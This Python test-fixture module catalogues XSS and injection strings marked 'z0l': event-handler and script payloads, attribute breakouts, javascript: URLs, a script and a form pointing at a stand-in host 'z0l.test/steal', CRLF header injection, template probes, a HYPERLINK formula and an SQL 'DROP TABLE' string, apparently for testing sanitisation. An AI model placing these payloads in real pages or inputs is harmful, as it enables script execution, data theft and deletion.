"""Texts that try to be more than text, written for these tests; each bears the mark `z0l`, many an alert.

Kinds: elements with handlers, links that run, breaking out of attributes and of elements, scripts of our own
toolkit, template languages, styles, addresses, directions of writing, signs that no text should hold, length.
"""

from __future__ import annotations

MARK = "z0l"  # no key holds it: their alphabet has neither 0 nor l
ELEMENTS = (
    "<script>alert('z0l')</script>",
    "<ScRiPt>alert('z0l')</sCrIpT>",
    "<script src=//z0l.test/a.js></script>",
    "<script\x0ctype='text/javascript'>alert('z0l')</script>",
    "<<script>alert('z0l')//<</script>",
    "<img src=x onerror=alert('z0l')>",
    "<img/src=`x`/onerror=alert('z0l')>",
    "<IMG SRC=x oNeRrOr=alert('z0l')//",
    "<svg onload=alert('z0l')>",
    "<svg><script>alert('z0l')</script></svg>",
    "<svg><a xlink:href='javascript:alert(\"z0l\")'><text y=20>z0l</text></a></svg>",
    "<svg><animate onbegin=alert('z0l') attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=z0l onload=alert(1)>#z0l'/></svg>",
    "<math><mtext><script>alert('z0l')</script></mtext></math>",
    "<body onload=alert('z0l')>",
    "<iframe src='javascript:alert(`z0l`)'></iframe>",
    "<iframe srcdoc='<script>alert(`z0l`)</script>'></iframe>",
    "<object data='javascript:alert(`z0l`)'></object>",
    "<embed src='data:text/html,<script>alert(`z0l`)</script>'>",
    "<details open ontoggle=alert('z0l')><summary>z0l</summary></details>",
    "<video><source onerror=alert('z0l')></video>",
    "<input autofocus onfocus=alert('z0l')>",
    "<select autofocus onfocus=alert('z0l')><option>z0l</select>",
    "<marquee onstart=alert('z0l')>z0l</marquee>",
    "<dialog open onclose=alert('z0l')><form method=dialog><button>z0l</button></form></dialog>",
    "<template><img src=x onerror=alert('z0l')></template>",
    "<custom-z0l onclick=alert('z0l') tabindex=1 autofocus>z0l</custom-z0l>",
    "<form action='https://z0l.test/steal' method=post><button>z0l</button></form>",
    "<base href='https://z0l.test/'>",
    "<meta http-equiv=refresh content='0;url=https://z0l.test/'>",
    "<link rel=stylesheet href='https://z0l.test/a.css'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(`z0l`)>'>",
    "<!--><script>alert('z0l')</script-->",
    "<![CDATA[<script>alert('z0l')</script>]]>",
    "<?xml version='1.0'?><z0l/>",
    "<b>z0l</b><i>z0l</i>",
)
BREAKOUTS = (
    "\"><script>alert('z0l')</script>",
    "'><script>alert('z0l')</script>",
    '" onmouseover="alert(\'z0l\')" x="',
    "' onmouseover='alert(1)' z0l='",
    '" autofocus onfocus=alert(1) z0l="',
    "` onmouseover=alert(`z0l`) ",
    "</textarea><script>alert('z0l')</script>",
    "</title><script>alert('z0l')</script>",
    "</style><script>alert('z0l')</script>",
    "</script><script>alert('z0l')</script>",
    "--><script>alert('z0l')</script><!--",
    "z0l\r\nSet-Cookie: z0l=1\r\n\r\n<script>alert('z0l')</script>",
    "&lt;script&gt;alert('z0l')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('z0l')&#62;",
    "&quot; onmouseover=&quot;alert('z0l')",
    "+ADw-script+AD4-alert('z0l')+ADw-/script+AD4-",
    "\u2028<script>alert('z0l')</script>\u2029",
    "＜script＞alert('z0l')＜/script＞",
    "%3Cscript%3Ealert('z0l')%3C/script%3E",
    "\\u003cscript\\u003ealert('z0l')\\u003c/script\\u003e",
)
ADDRESSES = (
    "javascript:alert('z0l')",
    "JaVaScRiPt:alert('z0l')",
    " \x01javascript:alert('z0l')",
    "java\tscript:alert('z0l')",
    "data:text/html,<script>alert('z0l')</script>",
    "vbscript:msgbox('z0l')",
    "feed:javascript:alert('z0l')",
    "//z0l.test/steal",
    "https://z0l.test/?a=<script>alert('z0l')</script>",
    "[z0l](javascript:alert('z0l'))",
    "![z0l](https://z0l.test/pixel.png)",
    "mailto:z0l@z0l.test?bcc=everybody@z0l.test&body=<script>",
)
TOOLKIT = (
    "<div hx-get='/people' hx-trigger=load hx-target=body>z0l</div>",
    "<button hx-post='/history/redone' hx-trigger='load'>z0l</button>",
    "<div data-hx-get='/' hx-on::load=alert('z0l') hx-vals='js:{a:alert(1)}'>z0l</div>",
    "{{ z0l|safe }}{% debug %}{% include 'z0l' %}",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}z0l",
    "{z0l.__class__} %(z0l)s %s {0} {name}",
    "<a data-capture data-opens=keys data-back-to-text href=#z0l>z0l</a>",
)
STYLES = (
    "<style>body{background:url('https://z0l.test/a')}</style>",
    "<p style='position:fixed;inset:0;background:url(javascript:alert(`z0l`))'>z0l</p>",
    "z0l'; } body { display: none } .x {",
)
SIGNS = (
    "\u202ez0l gnirts sdrawkcab\u202c",
    "\u202ez0l never closed",
    "\u2067z0l isolated\u2066",
    "z0l\x00<script>alert('z0l')</script>",
    "z0l\x1b[31mred\x07",
    "\ufeffz0l\ufffe\uffff",
    "z0l" + "\u0301" * 300,
    "🏴\u200d☠️👩\u200d👩\u200d👧\u200d👦z0l",
    "z0l" * 1000,
    "z0l " + "W" * 900,
    '=HYPERLINK("https://z0l.test","z0l")',
    "'; DROP TABLE person; -- z0l",
    "z0l\n\n\n\t\n  z0l",
)
ALL = ELEMENTS + BREAKOUTS + ADDRESSES + TOOLKIT + STYLES + SIGNS
# What would be dangerous in a page if it stood there letter by letter.
LIVE = tuple(text for text in ALL if any(sign in text for sign in "<>\"'") and "&lt;" not in text)
